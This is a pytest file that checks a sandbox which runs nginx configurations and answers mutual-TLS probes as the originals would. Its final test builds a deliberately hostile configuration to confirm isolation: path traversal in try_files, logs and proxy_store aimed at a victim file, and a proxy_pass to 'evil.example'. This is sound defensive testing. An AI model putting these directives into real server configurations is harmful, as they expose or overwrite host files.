"""Copies of quite different configurations run here and answer as their originals would."""

from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest

from handclasp.app.sandbox import RunningSandbox, SandboxTools, sandbox
from handclasp.model.errors import UsageError, WorldError
from handclasp.model.probe import ProbeRequest
from handclasp.nginxconf.gathered import tree_from_files
from handclasp.nginxconf.sandbox import SandboxPlan, UpstreamStub
from handclasp.pki.private_key import spki_of_private_key_pem
from handclasp.pki.read import certificate_from_der
from handclasp.wiring import World
from tests.nginx_rig import Issued, crl, make

ROOT = make("Example Root", ca=True)
ISSUING = make("Example Issuing", ROOT, ca=True)
SERVER = make("app.test", ISSUING, server=True)
ALICE = make("alice", ISSUING)
MALLORY = make("mallory", ISSUING)
STRANGER = make("stranger", make("Other", ca=True))

PKI = {
    "/etc/ssl/mtls/ca.pem": ROOT.pem + ISSUING.pem,
    "/etc/ssl/mtls/ca.crl": crl(ROOT) + crl(ISSUING, MALLORY),
    "/etc/ssl/certs/app.pem": SERVER.pem + ISSUING.pem,
}
KEYS = {"/etc/ssl/private/app.key": SERVER.key_pem}

DEBIAN = {
    "/etc/nginx/nginx.conf": """
user www-data;
worker_processes auto;
pid /run/nginx.pid;
error_log /var/log/nginx/error.log;
include /etc/nginx/modules-enabled/*.conf;
events { worker_connections 768; }
http {
    sendfile on;
    tcp_nopush on;
    types_hash_max_size 2048;
    include /etc/nginx/mime.types;
    default_type application/octet-stream;
    ssl_protocols TLSv1 TLSv1.1 TLSv1.2 TLSv1.3; # Dropping SSLv3, ref: POODLE
    access_log /var/log/nginx/access.log;
    gzip on;
    include /etc/nginx/conf.d/*.conf;
    include /etc/nginx/sites-enabled/*;
}
""",
    "/etc/nginx/modules-enabled/50-mod-http-image-filter.conf": "load_module modules/ngx_http_image_filter_module.so;",
    "/etc/nginx/mime.types": "types { text/html html htm; application/json json; }",
    "/etc/nginx/sites-enabled/app": """
server {
    listen 80;
    listen [::]:80 ipv6only=on;
    server_name app.test;
    return 301 https://$host$request_uri;
}
server {
    listen 443 ssl http2 backlog=511 reuseport;
    listen [::]:443 ssl http2;
    server_name app.test;
    root /var/www/html;
    index index.html index.nginx-debian.html;
    ssl_certificate /etc/ssl/certs/app.pem;
    ssl_certificate_key /etc/ssl/private/app.key;
    ssl_client_certificate /etc/ssl/mtls/ca.pem;
    ssl_crl /etc/ssl/mtls/ca.crl;
    ssl_verify_client on;
    location / { try_files $uri $uri/ =404; }
    location /api/ {
        proxy_pass http://127.0.0.1:3000/;
        proxy_set_header X-Client-DN $ssl_client_s_dn;
    }
}
""",
}

PHP = {
    "/etc/nginx/nginx.conf": """
user nginx;
load_module /usr/lib/nginx/modules/ngx_http_brotli_filter_module.so;
events { use epoll; worker_connections 1024; multi_accept on; }
http {
    fastcgi_cache_path /var/cache/nginx levels=1:2 keys_zone=PHP:10m;
    brotli on;
    log_format main '$remote_addr "$request" $status';
    access_log /dev/stdout main;
    client_body_temp_path /tmp/client;
    limit_req_zone $binary_remote_addr zone=one:10m rate=100r/s;
    server { listen 80 default_server; server_name _; return 444; }
    server {
        listen 443 ssl default_server;
        server_name shop.test;
        include snippets/tls.conf;
        ssl_verify_client optional;
        auth_basic "private";
        auth_basic_user_file /etc/nginx/.htpasswd;
        location / { try_files $uri $uri/ /index.php?$args; }
        location ~ \\.php$ {
            fastcgi_pass unix:/run/php/php8.2-fpm.sock; fastcgi_param VERIFIED $ssl_client_verify; fastcgi_cache PHP;
        }
        location /admin {
            if ($ssl_client_verify != SUCCESS) { return 403; }
            try_files $uri @app;
        }
        location @app { proxy_pass http://unix:/run/app.sock:; limit_req zone=one burst=5; }
    }
    server {
        listen 443 ssl;
        server_name admin.test;
        include snippets/tls.conf;
        ssl_verify_client on;
        location / { alias /srv/admin/; autoindex on; }
    }
}
""",
    "/etc/nginx/snippets/tls.conf": """
ssl_certificate /etc/ssl/certs/app.pem;
ssl_certificate_key /etc/ssl/private/app.key;
ssl_dhparam /etc/ssl/dhparam.pem;
ssl_client_certificate ../ssl/mtls/ca.pem;
ssl_session_ticket_key /etc/ssl/ticket.key;
ssl_stapling on;
resolver 1.1.1.1;
""",
}

GATEWAY = {
    "/etc/nginx/nginx.conf": """
events {}
http {
    proxy_cache_path /var/cache/nginx/api keys_zone=api:10m;
    geoip2 /etc/maxmind.mmdb { auto_reload 5m; $geo country iso_code; }
    map $ssl_client_s_dn $who { default ""; "CN=alice" alice; }
    upstream orders {
        least_conn; server orders-1.internal:9443 max_fails=2; server orders-2.internal:9443 backup; keepalive 16;
    }
    server {
        listen 10.0.0.5:8443 ssl;
        server_name api.test;
        ssl_certificate tls/app.pem;
        ssl_certificate_key tls/app.key;
        ssl_client_certificate /etc/ssl/mtls/ca.pem;
        ssl_verify_client on;
        if ($who = "") { return 403; }
        proxy_ssl_verify on;
        proxy_ssl_trusted_certificate /etc/ssl/up.pem;
        proxy_ssl_server_name on;
        location /orders/ { proxy_pass https://orders; proxy_ssl_name orders.internal; proxy_http_version 1.1; }
        location /users/ { proxy_pass https://users.internal:8443/v1/; }
        location /wrong/ { proxy_pass https://users.internal:8443/; proxy_ssl_name wrong.internal; }
        location /dyn/ { set $b http://dyn.internal; proxy_pass $b; }
        location /lua { content_by_lua_block { ngx.say("{ }") } }
        location /cached { proxy_cache api; proxy_pass http://plain.internal; }
    }
}
""",
}

STREAM = {
    "/etc/nginx/nginx.conf": """
load_module modules/ngx_stream_module.so;
events {}
stream {
    map $ssl_preread_server_name $to { app.test web; default other; }
    upstream web { server 127.0.0.1:8443; }
    upstream other { server 192.0.2.7:443; }
    server { listen 443; ssl_preread on; proxy_pass $to; proxy_protocol on; }
    server { listen 444; proxy_pass web; proxy_protocol on; }
}
http {
    set_real_ip_from 127.0.0.1;
    real_ip_header proxy_protocol;
    ssl_certificate /etc/ssl/certs/app.pem;
    ssl_certificate_key /etc/ssl/private/app.key;
    ssl_client_certificate /etc/ssl/mtls/ca.pem;
    ssl_verify_client on;
    server {
        listen 127.0.0.1:8443 ssl proxy_protocol; server_name app.test;
        return 200 "$ssl_client_verify $proxy_protocol_addr";
    }
}
""",
}

NO_LISTEN = {
    "/etc/nginx/nginx.conf": """
http {
    error_log /var/log/nginx/http.log warn;
    ssl_certificate "/etc/my certs/$ssl_server_name.pem";
    ssl_certificate_key "/etc/my certs/$ssl_server_name.key";
    server { server_name plain.test; location = /health { access_log off; return 200 "healthy\\n"; } }
    server {
        listen unix:/run/nginx.sock ssl;
        listen 9000-9002 ssl;
        server_name app.test;
        ssl_client_certificate /etc/ssl/mtls/ca.pem; ssl_verify_client optional_no_ca;
        location / { return 200 $ssl_client_verify; }
    }
}
events {}
""",
}


def plan(conf: dict[str, str], **changes: object) -> SandboxPlan:
    tree = tree_from_files("/etc/nginx/nginx.conf", {path: text.encode() for path, text in conf.items()})
    return replace(SandboxPlan(tree=tree, files=dict(PKI), keys=KEYS), **changes)  # type: ignore[arg-type]


@pytest.fixture
def tools(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[SandboxTools]:
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path))
    yield World(str(tmp_path / "home")).sandbox_tools
    assert list(tmp_path.iterdir()) == [], "nothing stays behind"
    assert not [one for one in Path("/proc").glob("[0-9]*") if str(tmp_path) in _title(one)]


def _title(process: Path) -> str:
    try:
        return (process / "cmdline").read_text(errors="replace")
    except OSError:
        return ""


def ask(
    running: RunningSandbox,
    where: str,
    client: Issued | None = ALICE,
    path: str = "/",
    name: str = "app.test",
) -> tuple[int | None, str, tuple[str, ...]]:
    address, _, port = where.rpartition(":")
    identity = client.identity(ISSUING) if client else None
    asked = running.ask(
        ProbeRequest(address=address or "192.0.2.1", port=int(port), sni=name, host=name, path=path, identity=identity)
    )
    return asked.result.status, asked.result.body.decode().strip(), asked.log


def test_a_debian_site(tools: SandboxTools) -> None:
    with sandbox(tools, plan(DEBIAN)) as running:
        assert running.runs, running.test.output
        assert ask(running, ":443")[:2] == (200, "content")
        assert ask(running, "[::]:443")[0] == 200
        assert ask(running, ":443", path="/api/x")[:2] == (200, "upstream")
        assert ask(running, ":443", None)[0] == 400
        status, _, log = ask(running, ":443", MALLORY)
        assert status == 400
        (line,) = [line for line in log if "certificate verify error" in line]
        assert "(23:certificate revoked)" in line
        assert ask(running, ":443")[2] == (), "each answer has its own lines"
        assert len(running.sockets) == 4
        assert "load_module ngx_http_image_filter_module: left out" in running.notes


def test_php_behind_snippets(tools: SandboxTools) -> None:
    with sandbox(tools, plan(PHP)) as running:
        assert running.runs, running.test.output
        assert ask(running, ":443", None, name="shop.test")[:2] == (200, "content")
        assert ask(running, ":443", None, "/admin", name="shop.test")[0] == 403
        assert ask(running, ":443", ALICE, "/admin", name="shop.test")[:2] == (200, "upstream")
        assert ask(running, ":443", STRANGER, name="shop.test")[0] == 400
        assert ask(running, ":443", None, name="admin.test")[0] == 400
        assert ask(running, ":443", ALICE, name="admin.test")[0] == 200
        assert ask(running, ":443", None, name="unknown.test")[0] == 200, "the default server is still the first"
        assert "brotli: this nginx does not know it" in running.notes
        assert "fastcgi_pass: left out" in running.notes


def test_a_gateway_with_verified_upstreams(tools: SandboxTools) -> None:
    up = make("Upstream Root", ca=True)
    users, orders = make("users.internal", up, server=True), make("orders.internal", up, server=True)
    files = {**PKI, "/etc/ssl/up.pem": up.pem, "/etc/nginx/tls/app.pem": SERVER.pem}
    stubs = {
        "users.internal:8443": UpstreamStub(chain=users.pem, key=users.key_pem),
        "orders-1.internal:9443": UpstreamStub(chain=orders.pem, key=orders.key_pem),
    }
    given = plan(GATEWAY, files=files, keys={"/etc/nginx/tls/app.key": SERVER.key_pem}, upstreams=stubs)
    with sandbox(tools, given) as running:
        assert running.runs, running.test.output
        where = "10.0.0.5:8443"
        assert ask(running, where, path="/users/1", name="api.test")[:2] == (200, "upstream")
        assert ask(running, where, path="/orders/1", name="api.test")[:2] == (200, "upstream")
        status, _, log = ask(running, where, path="/wrong/", name="api.test")
        assert status == 502
        assert any('upstream SSL certificate does not match "wrong.internal"' in line for line in log), log
        assert ask(running, where, path="/dyn/", name="api.test")[:2] == (200, "upstream")
        assert ask(running, where, path="/cached", name="api.test")[:2] == (200, "upstream")
        assert ask(running, where, path="/lua", name="api.test")[0] == 200
        other = make("bob", ISSUING)
        assert ask(running, where, other, "/users/", "api.test")[0] == 403
        strange = make("users.internal", make("X", ca=True), server=True)
        running.update(replace(given, upstreams={"users.internal:8443": UpstreamStub(chain=strange.pem, key=strange.key_pem)}))
        status, _, log = ask(running, where, path="/users/1", name="api.test")
        assert status == 502
        assert any("upstream SSL certificate verify error" in line for line in log)


def test_an_upstream_that_wants_a_client_certificate(tools: SandboxTools) -> None:
    stub = UpstreamStub(chain=SERVER.pem, key=SERVER.key_pem, client_ca=ROOT.pem + ISSUING.pem)
    text = """events {} http { server {
        listen 80 ssl; ssl_certificate /s; ssl_certificate_key /k;
        location / { proxy_pass https://x.test; OPTIONS }
    } }"""
    own = "proxy_ssl_certificate /c/a.pem; proxy_ssl_certificate_key /c/a.key; proxy_ssl_protocols TLSv1.3;"
    for options, status in (("", 400), (own, 200)):
        conf = {"/etc/nginx/nginx.conf": text.replace("OPTIONS", options)}
        given = plan(conf, files={"/c/a.pem": ALICE.pem}, keys={"/c/a.key": ALICE.key_pem}, upstreams={"x.test:443": stub})
        with sandbox(tools, given) as running:
            assert running.runs, running.test.output
            assert ask(running, ":80", None)[0] == status


def test_a_stream_router_in_front(tools: SandboxTools) -> None:
    with sandbox(tools, plan(STREAM)) as running:
        assert running.runs, running.test.output
        assert ask(running, ":443")[:2] == (200, "SUCCESS 127.0.0.1")
        assert ask(running, ":444")[:2] == (200, "SUCCESS 127.0.0.1")
        assert ask(running, ":443", None)[0] == 400
        assert ask(running, "127.0.0.1:8443")[:2] == (200, "SUCCESS"), "a probe sends no PROXY line"
        assert ask(running, ":443", name="elsewhere.test")[0] is None


def test_odd_listens_variables_and_unreadable_keys(tools: SandboxTools) -> None:
    files = {**PKI, "/etc/my certs/app.test.pem": SERVER.pem}
    keys = {"/etc/my certs/app.test.key": SERVER.key_pem}
    with sandbox(tools, plan(NO_LISTEN, files=files, keys=keys)) as running:
        assert running.runs, running.test.output
        assert ask(running, ":9001")[:2] == (200, "SUCCESS")
        assert ask(running, ":9002", STRANGER)[1].startswith("FAILED:")
        assert ask(running, "unix:/run/nginx.sock:0")[0] == 200
        with pytest.raises(UsageError, match="does not listen") as caught:
            ask(running, ":443")
        assert "*:9000" in (caught.value.hint or "")


def test_a_missing_key_gets_a_twin_that_says_the_same(tools: SandboxTools) -> None:
    with sandbox(tools, plan(DEBIAN, keys={})) as running:
        assert running.runs, running.test.output
        who = ALICE.identity(ISSUING)
        asked = running.ask(ProbeRequest(address="*", port=443, sni="app.test", host="app.test", identity=who))
        assert asked.result.status == 200
        shown = certificate_from_der(asked.result.presented_chain[0])
        assert shown.common_names == ("app.test",)
        assert shown.serial != SERVER.certificate.serial_number


def test_a_pair_that_does_not_match_stays_so(tools: SandboxTools) -> None:
    other = spki_of_private_key_pem(ALICE.key_pem, where="x")
    own = spki_of_private_key_pem(SERVER.key_pem, where="x")
    with sandbox(tools, plan(DEBIAN, keys={}, spki={"/etc/ssl/private/app.key": other})) as running:
        assert not running.runs
        assert "key values mismatch" in running.test.output
        assert running.update(plan(DEBIAN, keys={}, spki={"/etc/ssl/private/app.key": own})).ok
        assert ask(running, ":443")[0] == 200


def test_a_fault_stays_a_fault_and_its_remedy_is_seen(tools: SandboxTools) -> None:
    broken = {path: text.replace("ssl_client_certificate", "ssl_ca_certificate") for path, text in DEBIAN.items()}
    gone = {path: content for path, content in PKI.items() if not path.endswith("ca.pem")}
    with sandbox(tools, plan(broken)) as running:
        assert not running.runs
        assert 'unknown directive "ssl_ca_certificate"' in running.test.output
        with pytest.raises(WorldError):
            ask(running, ":443")
        assert running.update(plan(DEBIAN)).ok
        assert ask(running, ":443")[0] == 200
        assert not running.update(plan(DEBIAN, files=gone)).ok
        assert "ca.pem" in running.test.output
        assert running.update(plan(DEBIAN)).ok
        assert ask(running, ":443", None)[0] == 400


def test_an_edit_is_seen_after_the_update_at_the_same_port(tools: SandboxTools) -> None:
    changed = {path: text.replace("ssl_verify_client on", "ssl_verify_client optional") for path, text in DEBIAN.items()}
    with sandbox(tools, plan(DEBIAN)) as running:
        ports = dict(running.sockets)
        assert ask(running, ":443", None)[0] == 400
        running.update(plan(changed))
        assert ask(running, ":443", None)[0] == 200
        running.update(plan(DEBIAN, files={**PKI, "/etc/ssl/mtls/ca.crl": crl(ROOT) + crl(ISSUING, ALICE)}))
        assert ask(running, ":443", ALICE)[0] == 400
        assert running.sockets == ports


def test_the_level_of_the_log_can_be_kept(tools: SandboxTools) -> None:
    with sandbox(tools, plan(DEBIAN, keep_log_level=True)) as running:
        assert ask(running, ":443", None)[2] == ()
        log = ("access_log /var/log/nginx/access.log;", "error_log /x debug;")
        quiet = {path: text.replace(*log) for path, text in DEBIAN.items()}
        running.update(plan(quiet, keep_log_level=True))
        (line,) = ask(running, ":443", None)[2]
        assert "client sent no required SSL certificate" in line


def test_a_port_that_somebody_takes_first_is_chosen_again(tools: SandboxTools) -> None:
    import socket

    with socket.socket() as held:
        held.bind(("127.0.0.1", 0))
        held.listen()
        taken = held.getsockname()[1]

        class Unlucky:
            times = 0

            def take(self, count: int) -> tuple[int, ...]:
                self.times += 1
                ports = tools.free_ports.take(count)
                return (*ports[:-1], taken) if self.times == 1 else ports

        with sandbox(replace(tools, free_ports=Unlucky()), plan(DEBIAN)) as running:
            assert ask(running, ":443")[0] == 200
            assert taken not in running.sockets.values()


def test_nothing_of_the_original_is_reached(tools: SandboxTools, tmp_path: Path) -> None:
    """A hostile configuration: files of this machine as content, logs elsewhere, programs."""
    victim = tmp_path.parent / "victim.txt"
    victim.write_text("secret")
    conf = f"""
events {{}}
http {{
    access_log {victim}.log; error_log {victim}.err;
    perl_set $x 'sub {{ return "x"; }}';
    server {{
        listen 443 ssl; server_name app.test;
        ssl_certificate /etc/ssl/certs/app.pem; ssl_certificate_key /etc/ssl/private/app.key;
        root {victim.parent}; alias_x /; location / {{ root {victim.parent}; autoindex on; }}
        location /up/ {{ try_files /../../../..{victim} @x; }}
        location @x {{ return 200 "no"; }}
        location /store/ {{ proxy_store {victim}; proxy_pass http://evil.example; }}
    }}
}}
"""
    with sandbox(tools, plan({"/etc/nginx/nginx.conf": conf})) as running:
        assert running.runs, running.test.output
        for path in ("/victim.txt", "/", "/up/", "/store/x"):
            assert ask(running, ":443", path=path)[1] in {"content", "no", "upstream"}
    assert victim.read_text() == "secret"
    assert not list(victim.parent.glob("victim.txt.*"))
    victim.unlink()
